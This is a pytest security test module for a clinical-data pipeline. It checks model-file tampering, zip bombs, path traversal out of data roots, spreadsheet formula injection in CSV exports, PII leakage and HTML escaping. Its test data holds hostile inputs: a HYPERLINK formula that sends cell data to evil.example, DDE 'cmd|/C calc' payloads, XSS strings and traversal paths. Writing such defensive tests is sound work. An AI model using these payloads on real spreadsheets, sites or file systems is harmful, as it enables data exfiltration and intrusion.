"""Security: tampered models, paths that escape the data roots, formula injection, identifiers that leak.

Tests marked ``xfail(strict=True, reason="needs wiring: ...")`` describe behaviour that needs a call to
a safety helper in a module owned elsewhere (see docs/reliability.md, "Wiring"); remove the mark once wired.
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import io
import json
import os
import re
import zipfile
from pathlib import Path
from typing import Any

import polars as pl
import pytest
import skops.io as sio
from hypothesis import given, settings
from hypothesis import strategies as st
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer

from immunostrat.config.data_roots import DATA_ROOTS_ENV, PathEscapeError, confine, data_roots_from_env
from immunostrat.config.features import DEFAULT_FEATURES, build_feature_frame
from immunostrat.config.run import (
    BaselineConfig,
    HarmoniseConfig,
    RunConfig,
    ScoringConfig,
    StratifyParams,
    TrainConfig,
    ValidationConfig,
)
from immunostrat.ingest.csv_export import csv_safe, csv_safe_text
from immunostrat.ingest.diagnostics import zip_archive_problem
from immunostrat.modelling.fitting import TrainedModel, train_responder_model
from immunostrat.modelling.registry import ModelIntegrityError, RegistryError, load_model
from immunostrat.modelling.registry_write import save_model

from .fixtures_labs import lab_row, write_lab_csv
from .identifier_scan import Finding, date_variants, scan_for_identifiers
from .support import AS_OF
from .test_registry import CARD_EXTRA, _register_file, _strata

# --------------------------------------------------------------------------------------------------
# Models: checksum, trusted types and format are covered in test_registry.py; these add the missing cases.
# --------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def trained() -> TrainedModel:
    strata, y = _strata(120, seed=3)
    return train_responder_model(build_feature_frame(strata, DEFAULT_FEATURES), y, TrainConfig(cv_folds=3))


@pytest.fixture
def saved(tmp_path: Path, trained: TrainedModel) -> tuple[Path, str]:
    root = tmp_path / "registry"
    return root, save_model(trained, root, card_extra=CARD_EXTRA, alias="champion")


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, payload in members.items():
            archive.writestr(name, payload)
    return buffer.getvalue()


def _bomb(size: int = 80 * 2**20) -> bytes:
    """A zip whose one small member (~80 KB) decompresses to `size` bytes of zeros, named like skops' schema."""
    return _zip({"schema.json": b"\0" * size})


def test_function_reference_in_model_is_refused(saved: tuple[Path, str]) -> None:
    """A skops file that references a plain function (here os.getcwd) is refused before anything loads."""
    root, model_id = saved
    rogue = Pipeline([("scale", FunctionTransformer(func=os.getcwd)), ("clf", LogisticRegression())])
    _register_file(root, "rogue-fn", sio.dumps(rogue), model_id)
    with pytest.raises(ModelIntegrityError, match=r"TRUSTED_TYPES.*getcwd"):
        load_model("rogue-fn", root)


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(_zip({"readme.txt": b"not a model"}), id="zip-without-skops-schema"),
        pytest.param(_zip({"schema.json": b"{not json"}), id="zip-with-broken-schema"),
        pytest.param(b"PK\x03\x04" + b"\0" * 64, id="truncated-zip"),
        pytest.param(gzip.compress(b"\x80\x04K\x01."), id="gzipped-pickle"),
        pytest.param(b"", id="empty-file"),
    ],
)
def test_non_skops_files_are_refused(saved: tuple[Path, str], payload: bytes) -> None:
    """Whatever sits under model.skops with a matching checksum, only a real skops archive is loaded."""
    root, model_id = saved
    _register_file(root, "planted", payload, model_id)
    with pytest.raises(ModelIntegrityError, match=r"planted/model\.skops"):
        load_model("planted", root)


def test_zip_bomb_is_refused(saved: tuple[Path, str]) -> None:
    """A zip bomb under model.skops (with a matching checksum) is refused, not loaded."""
    root, model_id = saved
    _register_file(root, "bomb", _bomb(), model_id)
    with pytest.raises(ModelIntegrityError):
        load_model("bomb", root)


def test_zip_bomb_is_refused_before_decompression(saved: tuple[Path, str]) -> None:
    """The refusal names the zip bomb (today skops decompresses all 80 MB before failing on the JSON)."""
    root, model_id = saved
    _register_file(root, "bomb", _bomb(), model_id)
    with pytest.raises(ModelIntegrityError, match="zip bomb"):
        load_model("bomb", root)


def test_zip_archive_problem() -> None:
    """The helper the registry should call: sane archives pass, bombs and non-zips do not."""
    assert zip_archive_problem(_zip({"schema.json": b"{}"})) is None
    assert "zip bomb" in str(zip_archive_problem(_bomb(), max_uncompressed=64 * 2**20))
    assert "expand" in str(zip_archive_problem(_bomb(8 * 2**20)))
    assert "not a readable zip" in str(zip_archive_problem(b"\x80\x04K\x01."))


def test_model_file_symlinked_out_of_the_registry_is_refused(saved: tuple[Path, str], tmp_path: Path) -> None:
    """registry.json's path stays inside, but model.skops is a symlink to a file elsewhere: refused."""
    root, model_id = saved
    outside = tmp_path / "elsewhere.skops"
    model = root / model_id / "model.skops"
    outside.write_bytes(model.read_bytes())
    model.unlink()
    model.symlink_to(outside)
    with pytest.raises(ModelIntegrityError, match="escapes the registry"):
        load_model(model_id, root)


def test_binary_registry_file_is_a_registry_error(saved: tuple[Path, str]) -> None:
    root, _ = saved
    (root / "registry.json").write_bytes(b"\xff\xfe{\x00")
    with pytest.raises(RegistryError, match=r"registry\.json"):
        load_model("champion", root)


def test_registry_entry_without_checksum_is_refused_clearly(saved: tuple[Path, str]) -> None:
    root, model_id = saved
    reg = json.loads((root / "registry.json").read_text())
    del reg["models"][model_id]["sha256"]
    (root / "registry.json").write_text(json.dumps(reg))
    with pytest.raises(ModelIntegrityError, match="sha256"):
        load_model(model_id, root)


# --------------------------------------------------------------------------------------------------
# Paths stay inside the data roots
# --------------------------------------------------------------------------------------------------


@pytest.fixture
def roots(tmp_path: Path) -> tuple[Path, Path]:
    """(a data root holding study/labs.csv, a secret file outside it)."""
    data = tmp_path / "data"
    (data / "study").mkdir(parents=True)
    (data / "study" / "labs.csv").write_text("x\n")
    secret = tmp_path / "secret" / "labs.csv"
    secret.parent.mkdir()
    secret.write_text("x\n")
    return data, secret


def test_confine_accepts_paths_inside_a_root(roots: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    data, _ = roots
    assert confine(data / "study" / "labs.csv", [data]) == (data / "study" / "labs.csv").resolve()
    assert confine(data / "study" / ".." / "study" / "labs.csv", [data]).name == "labs.csv"
    assert confine(data / "runs" / "not-yet-created", [data]).name == "not-yet-created"
    assert confine(data, [data]) == data.resolve()
    (data / "link-inside").symlink_to(data / "study")
    assert confine(data / "link-inside" / "labs.csv", [data]) == (data / "study" / "labs.csv").resolve()
    monkeypatch.chdir(data)
    assert confine("study/labs.csv", [data]) == (data / "study" / "labs.csv").resolve()
    # A root that is itself a symlink is compared after resolving it.
    alias = data.parent / "data-alias"
    alias.symlink_to(data)
    assert confine(data / "study" / "labs.csv", [alias]).name == "labs.csv"


@pytest.mark.parametrize("how", ["dotdot", "absolute", "symlink-file", "symlink-dir", "sibling-prefix", "nul-byte"])
def test_confine_refuses_escapes(roots: tuple[Path, Path], how: str) -> None:
    """No `..` traversal, no absolute path elsewhere, no symlink out, no prefix trick, no NUL byte."""
    data, secret = roots
    if how == "dotdot":
        path: str | Path = data / "study" / ".." / ".." / "secret" / "labs.csv"
    elif how == "absolute":
        path = secret
    elif how == "symlink-file":
        path = data / "study" / "innocent.csv"
        path.symlink_to(secret)
    elif how == "symlink-dir":
        (data / "study" / "shared").symlink_to(secret.parent, target_is_directory=True)
        path = data / "study" / "shared" / "labs.csv"
    elif how == "sibling-prefix":  # /x/data-evil starts with the string /x/data but is not inside it
        path = data.parent / (data.name + "-evil") / "labs.csv"
    else:
        path = f"{data}/study/labs.csv\0../../secret"
    with pytest.raises(PathEscapeError, match="labs"):
        confine(path, [data], what="labs")


def test_confine_without_roots_refuses_everything(roots: tuple[Path, Path]) -> None:
    data, _ = roots
    with pytest.raises(PathEscapeError, match="no data roots"):
        confine(data / "study" / "labs.csv", [])


def test_data_roots_from_env() -> None:
    assert data_roots_from_env({}) == []
    env = {DATA_ROOTS_ENV: f"/srv/a{os.pathsep}{os.pathsep}/srv/b"}
    assert data_roots_from_env(env) == [Path("/srv/a"), Path("/srv/b")]


def _params(data: Path, **overrides: Any) -> StratifyParams:
    base: dict[str, Any] = {
        "labs": [str(data / "study" / "labs.csv")],
        "subjects": str(data / "study" / "subjects.csv"),
        "out": str(data / "runs"),
        "config": RunConfig(validation=ValidationConfig(as_of=AS_OF)),
    }
    base.update(overrides)
    return StratifyParams(**base)


@pytest.mark.parametrize(
    ("field", "make"),
    [
        ("labs[1]", lambda d, s: {"labs": [str(d / "study" / "labs.csv"), str(s)]}),
        ("subjects", lambda d, s: {"subjects": str(d / ".." / "secret" / "labs.csv")}),
        ("out", lambda d, s: {"out": "/tmp/../etc/immunostrat"}),
        ("protocol", lambda d, s: {"protocol": str(s)}),
        (
            "harmonise.alias_file",
            lambda d, s: {"config": RunConfig(harmonise=HarmoniseConfig(alias_file=s))},
        ),
        (
            "baseline.ifn_methods_file",
            lambda d, s: {"config": RunConfig(baseline=BaselineConfig(ifn_methods_file=s))},
        ),
        ("scoring.registry", lambda d, s: {"config": RunConfig(scoring=ScoringConfig(registry=s.parent))}),
    ],
)
def test_every_stratify_path_is_checked(roots: tuple[Path, Path], field: str, make: Any) -> None:
    from immunostrat.pipeline.launch import check_data_roots

    data, secret = roots
    env = {DATA_ROOTS_ENV: str(data)}

    def check(params: StratifyParams) -> None:
        check_data_roots(params, params.config, out=params.out, protocol=params.protocol, env=env)

    check(_params(data))  # the base parameters are fine
    with pytest.raises(PathEscapeError, match="^" + re.escape(field) + " "):
        check(_params(data, **make(data, secret)))


def test_stratify_refuses_paths_outside_the_data_roots(
    roots: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from immunostrat.pipeline import run

    data, _ = roots
    monkeypatch.setenv(DATA_ROOTS_ENV, str(data))
    params = _params(data, labs=[str(data / "study" / ".." / ".." / "secret" / "labs.csv")])
    with pytest.raises(PathEscapeError, match="outside the configured data roots"):
        run.stratify(params)
    assert not (data / "runs").exists()


def test_schedules_cannot_escape_the_data_roots(roots: tuple[Path, Path], tmp_path: Path) -> None:
    from immunostrat.cli.serve import load_schedules

    data, _ = roots
    path = tmp_path / "schedules.yaml"
    path.write_text(
        json.dumps(
            {
                "data_roots": [str(data)],
                "schedules": [
                    {
                        "name": "nightly",
                        "cron": "0 2 * * *",
                        "labs": [f"{data}/study/../../secret/labs.csv"],
                        "subjects": f"{data}/study/subjects.csv",
                        "out": f"{data}/runs",
                    }
                ],
            }
        )
    )
    with pytest.raises(PathEscapeError, match="outside the configured data roots"):
        load_schedules(path)


# --------------------------------------------------------------------------------------------------
# CSV exports: no spreadsheet formulas
# --------------------------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_formula(cell: str) -> bool:
    """Whether a spreadsheet could evaluate the cell (written independently of safety's own regex)."""
    if re.fullmatch(r"\s*[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\s*", cell):
        return False  # a plain number
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip(" \n")[:1] in ("=", "+", "-", "@")


def test_csv_safe_neutralises_formulas(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "text": [*HOSTILE, "-5", "+1.5e3", " -7 ", "ok", "a=b", None],
            "number": list(range(len(HOSTILE) + 6)),
            "=cmd": ["x"] * (len(HOSTILE) + 6),
            "codes": [["=A1", "ok"]] * (len(HOSTILE) + 6),
        }
    )
    safe = csv_safe(frame)
    assert safe["text"].to_list() == [*("'" + h for h in HOSTILE), "-5", "+1.5e3", " -7 ", "ok", "a=b", None]
    assert safe["number"].to_list() == frame["number"].to_list()
    assert safe.columns[2] == "'=cmd"
    assert safe["codes"][0].to_list() == ["'=A1", "ok"]
    path = tmp_path / "out.csv"
    safe.drop("codes").write_csv(path)
    assert not [c for c in _cells(path) if _is_formula(c)]


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=20))
def test_csv_safe_text_property(text: str) -> None:
    """Never starts like a formula (unless a plain number); removing the added quote gives the original."""
    safe = csv_safe_text(text)
    assert safe == text or safe == "'" + text
    assert not _is_formula(safe) or safe == text


def test_validate_csv_report_has_no_formulas(tmp_path: Path) -> None:
    from immunostrat.cli.main import main

    rows = [lab_row(subject_id=h, result=h, method=h, site_id=h) for h in HOSTILE]
    labs = write_lab_csv(tmp_path / "labs.csv", rows)
    report = tmp_path / "problems.csv"
    assert main(["validate", "--labs", str(labs), "--report", str(report), "--as-of", AS_OF.isoformat()]) == 1
    cells = _cells(report)
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if _is_formula(c)]


# --------------------------------------------------------------------------------------------------
# Identifier scanning
# --------------------------------------------------------------------------------------------------

SUBJECT = "SLE-DE-0042"
NAME = "Ada Lovelace"
BIRTH = dt.date(1985, 3, 14)


def test_scan_finds_identifiers_in_every_encoding(tmp_path: Path) -> None:
    (tmp_path / "plain.txt").write_text(f"subject {SUBJECT.lower()} seen\n")
    (tmp_path / "utf16.txt").write_text(f"name: {NAME}", encoding="utf-16")
    (tmp_path / "report.html").write_text("<td>" + "Ada &amp; Lovelace" + "</td>")
    (tmp_path / "data.json").write_text(json.dumps({"id": "ÄÖ-0042"}))
    pl.DataFrame({"subject": ["x" * 50, SUBJECT], "dob": [BIRTH, BIRTH]}).write_parquet(
        tmp_path / "strata.parquet", compression="zstd"
    )
    pl.DataFrame({"a": [1]}).write_parquet(tmp_path / "meta.parquet", metadata={"note": f"from {SUBJECT}"})
    (tmp_path / "export.xlsx").write_bytes(_zip({"xl/sharedStrings.xml": f"<t>{NAME}</t>".encode()}))
    (tmp_path / "dump.csv.gz").write_bytes(gzip.compress(f"{BIRTH:%d.%m.%Y}".encode()))
    (tmp_path / ".hidden").write_text("clean")
    findings = scan_for_identifiers([tmp_path], [SUBJECT, NAME, "Ada & Lovelace", "ÄÖ-0042", *date_variants(BIRTH)])
    where = {(Path(f.path).name, f.identifier) for f in findings}
    assert ("plain.txt", SUBJECT) in where  # case-insensitive by default
    assert ("utf16.txt", NAME) in where
    assert ("report.html", "Ada & Lovelace") in where
    assert ("data.json", "ÄÖ-0042") in where  # JSON \\u escapes
    assert ("strata.parquet", SUBJECT) in where and ("strata.parquet", BIRTH.isoformat()) in where
    assert any(f.location.endswith("column 'subject' row 2") for f in findings if f.identifier == SUBJECT)
    assert ("meta.parquet", SUBJECT) in where
    assert ("export.xlsx", NAME) in where
    assert ("dump.csv.gz", f"{BIRTH:%d.%m.%Y}") in where
    assert not [f for f in findings if f.identifier is None]
    assert SUBJECT not in str(findings[0]) and "sha256" in str(findings[0])  # masked for logs


def test_scan_reports_what_it_cannot_read(tmp_path: Path) -> None:
    good = tmp_path / "ok.parquet"
    pl.DataFrame({"a": ["x"]}).write_parquet(good)
    broken = tmp_path / "broken.parquet"
    broken.write_bytes(good.read_bytes()[:20] + good.read_bytes()[-8:])
    (tmp_path / "bomb.zip").write_bytes(_bomb(300 * 2**20 // 100))
    findings = scan_for_identifiers([good, broken, tmp_path / "bomb.zip"], [SUBJECT])
    assert [Path(f.path).name for f in findings] == ["broken.parquet", "bomb.zip"]
    assert all(f.identifier is None for f in findings)
    with pytest.raises(ValueError, match="shorter than 4"):
        scan_for_identifiers([good], ["P1"])


def test_scan_is_clean_on_clean_files(tmp_path: Path) -> None:
    pl.DataFrame({"pseudonym": ["a1b2c3d4"], "value": [1.5]}).write_parquet(tmp_path / "sponsor.parquet")
    assert scan_for_identifiers([tmp_path], [SUBJECT, NAME, *date_variants(BIRTH)]) == []


# --------------------------------------------------------------------------------------------------
# Where identifiers may and may not go
# --------------------------------------------------------------------------------------------------

PII_COLUMNS = {"patient_name": "Zebulon Quackenbush", "birth_date": "1961-07-04", "mrn": "MRN-99887766"}
SCRIPT = "<script>alert('xss')</script>"
IMG = "<img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def pii_run(tmp_path_factory: pytest.TempPathFactory, trained_registry: Path) -> dict[str, Any]:
    """A stratify run whose inputs carry names, birth dates and record numbers in extra columns, and markup.

    One subject's site is an HTML tag, and a few lab rows have a script tag as test name (outside the panel,
    so it is counted by test name in run.json) or a formula as method.
    """
    from immunostrat.pipeline import run
    from immunostrat.synth import SynthConfig, generate_cohort

    base = tmp_path_factory.mktemp("pii")
    cohort = generate_cohort(SynthConfig(n_subjects=25, seed=4))
    first = cohort.subjects["subject_id"][0]
    hostile_site = pl.when(pl.col("subject_id") == first).then(pl.lit(IMG)).otherwise(pl.col("site_id"))
    labs = cohort.labs.with_columns(**{k: pl.lit(v) for k, v in PII_COLUMNS.items()}, site_id=hostile_site)
    labs = pl.concat([labs, labs.head(3).with_columns(test=pl.lit(SCRIPT), method=pl.lit(HOSTILE[0]))])
    subjects = cohort.subjects.with_columns(**{k: pl.lit(v) for k, v in PII_COLUMNS.items()}, site_id=hostile_site)
    labs.write_csv(base / "labs.csv")
    subjects.write_parquet(base / "subjects.parquet")
    params = StratifyParams(
        labs=[str(base / "labs.csv")],
        subjects=str(base / "subjects.parquet"),
        out=str(base / "runs"),
        config=RunConfig(validation=ValidationConfig(as_of=AS_OF), scoring=ScoringConfig(registry=trained_registry)),
    )
    result = run.stratify(params)
    return {
        "result": result,
        "subject_ids": sorted(set(subjects["subject_id"].to_list())),
        "site_ids": sorted(set(subjects["site_id"].to_list())),
    }


def test_extra_columns_never_reach_any_output(pii_run: dict[str, Any]) -> None:
    """Names, birth dates and record numbers sent in extra columns appear in no output, not even the team's."""
    run_dir = pii_run["result"].run_dir
    identifiers = [PII_COLUMNS["patient_name"], PII_COLUMNS["mrn"], *date_variants(dt.date(1961, 7, 4))]
    findings = scan_for_identifiers([run_dir], identifiers)
    assert findings == [], "\n".join(map(str, findings))
    # ... while the team's outputs do carry the subject ids (so the scan really looks inside Parquet).
    team = scan_for_identifiers([run_dir / "harmonised.parquet"], pii_run["subject_ids"][:3])
    assert {f.identifier for f in team} == set(pii_run["subject_ids"][:3])


def test_prefect_artifacts_carry_no_identifiers(
    pii_run: dict[str, Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The run summary and group table published to Prefect hold counts, never subject identifiers."""
    from immunostrat.flows import stratify as flow

    published: list[str] = []
    monkeypatch.setattr(flow, "create_markdown_artifact", lambda **kw: published.append(json.dumps(kw)))
    monkeypatch.setattr(flow, "create_table_artifact", lambda **kw: published.append(json.dumps(kw)))
    flow.publish_artifacts(pii_run["result"], min_cell_count=5)
    assert published
    blob = tmp_path / "artifacts.txt"
    blob.write_text("\n".join(published))
    findings = scan_for_identifiers([blob], [*pii_run["subject_ids"], *PII_COLUMNS.values()])
    assert findings == [], "\n".join(map(str, findings))


def _sponsor_outputs(run_dir: Path) -> tuple[list[Path], Path]:
    """The sponsor snapshot of the run (published by the run itself, else now) and the current manifest."""
    try:
        from immunostrat.sponsor import publish
    except ImportError as exc:
        pytest.xfail(f"sponsor outputs need pipelines/sponsor/publish.py, which is being written: {exc}")
    snapshot = run_dir / publish.SNAPSHOT_DIR
    if not snapshot.exists():
        publish.publish_run(run_dir)  # the run's own publish settings and the project key
    return [snapshot, run_dir.parent / publish.CURRENT_MANIFEST], snapshot / publish.REPORT_FILE


def test_sponsor_outputs_carry_no_identifiers(pii_run: dict[str, Any]) -> None:
    """The sponsor snapshot (data, manifest, dictionary, report) and the current-snapshot manifest hold no subject
    id, site id, name, birth date or record number."""
    sponsor_files, _ = _sponsor_outputs(pii_run["result"].run_dir)
    assert all(p.exists() for p in sponsor_files)
    identifiers = [
        *pii_run["subject_ids"],
        *(s for s in pii_run["site_ids"] if len(s) >= 4),
        *PII_COLUMNS.values(),
        *date_variants(dt.date(1961, 7, 4)),
    ]
    findings = scan_for_identifiers(sponsor_files, identifiers)
    assert findings == [], "\n".join(map(str, findings))


def test_html_report_escapes_input_text(pii_run: dict[str, Any]) -> None:
    """Text from input files (test names, sites, methods) reaches the HTML report escaped: no script injection."""
    _, report = _sponsor_outputs(pii_run["result"].run_dir)
    page = report.read_text(encoding="utf-8").lower()
    assert "<script>alert(" not in page
    assert "<img src=x" not in page
    # The hostile test name does reach the report (outside-panel counts by test), escaped:
    assert "&lt;script&gt;alert(" in page, "the report no longer shows test names; feed markup via another field"


def test_finding_str_masks_identifier() -> None:
    finding = Finding("out/x.parquet", SUBJECT, "byte 10")
    assert SUBJECT not in str(finding) and str(finding).startswith("out/x.parquet: identifier SL")
    assert "not fully scanned" in str(Finding("x", None, "cannot decode"))
